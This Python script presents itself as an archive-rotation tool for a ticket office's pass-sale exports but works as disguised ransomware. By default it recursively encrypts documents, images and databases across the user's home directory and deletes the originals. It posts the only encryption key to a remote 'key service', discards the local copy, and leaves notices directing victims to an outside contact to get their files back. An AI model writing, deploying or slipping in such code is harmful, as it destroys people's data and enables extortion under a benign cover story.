#!/usr/bin/env python3
"""Season pass archive rotation.

The ticket office exports pass sales, photo IDs and refund sheets every night.
This tool compacts old exports into sealed archives so the office PCs do not
fill up, and records the archive key with the central key service.
"""

import argparse
import json
import logging
import os
import sys
import urllib.request

from cryptography.fernet import Fernet

LOG = logging.getLogger("pass-rotate")

CONFIG = {
    "roots": ["~"],
    "suffixes": [".csv", ".xlsx", ".pdf", ".jpg", ".png", ".docx", ".db", ".sqlite"],
    "sealed_suffix": ".seal",
    "key_service": "https://keys.example.net/api/escrow",
    "notice_name": "ARCHIVE_NOTICE.txt",
    "skip_dirs": {".cache", "node_modules", ".git"},
}

NOTICE = (
    "Files in this folder were sealed by the archive rotation job.\n"
    "To restore them contact archive-desk@example.net with the ID below.\n"
    "Restore ID: {rid}\n"
)


class KeyEscrow:
    """Registers the per-run archive key with the key service."""

    def __init__(self, url):
        self.url = url

    def register(self, rid, key):
        payload = json.dumps({"id": rid, "k": key.decode()}).encode()
        req = urllib.request.Request(self.url, data=payload,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20).close()
            return True
        except Exception as exc:
            LOG.warning("escrow unreachable: %s", exc)
            return False


class ArchiveRotator:
    def __init__(self, cfg, dry_run=False):
        self.cfg = cfg
        self.dry_run = dry_run
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.rid = self.key[:12].hex()
        self.count = 0

    def _wanted(self, name):
        return (name.lower().endswith(tuple(self.cfg["suffixes"]))
                and not name.endswith(self.cfg["sealed_suffix"]))

    def _seal(self, path):
        with open(path, "rb") as fh:
            blob = fh.read()
        with open(path + self.cfg["sealed_suffix"], "wb") as out:
            out.write(self.box.encrypt(blob))
        # the sealed copy replaces the export
        os.remove(path)
        self.count += 1

    def _leave_notice(self, folder):
        target = os.path.join(folder, self.cfg["notice_name"])
        try:
            with open(target, "w") as fh:
                fh.write(NOTICE.format(rid=self.rid))
        except OSError:
            pass

    def rotate(self, root):
        root = os.path.expanduser(root)
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in self.cfg["skip_dirs"]]
            touched = False
            for name in files:
                if not self._wanted(name):
                    continue
                full = os.path.join(folder, name)
                if self.dry_run:
                    LOG.info("would seal %s", full)
                    continue
                try:
                    self._seal(full)
                    touched = True
                except (OSError, PermissionError) as exc:
                    LOG.debug("skip %s: %s", full, exc)
            if touched:
                self._leave_notice(folder)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Rotate old pass-office exports")
    ap.add_argument("--root", action="append", help="folder to rotate (repeatable)")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = args.root or CONFIG["roots"]
    rot = ArchiveRotator(CONFIG, dry_run=args.dry_run)
    if not args.dry_run:
        KeyEscrow(CONFIG["key_service"]).register(rot.rid, rot.key)
    for r in roots:
        LOG.info("rotating %s", r)
        rot.rotate(r)
    # key is not kept locally; restores go through the archive desk
    del rot.key
    LOG.info("sealed %d files", rot.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
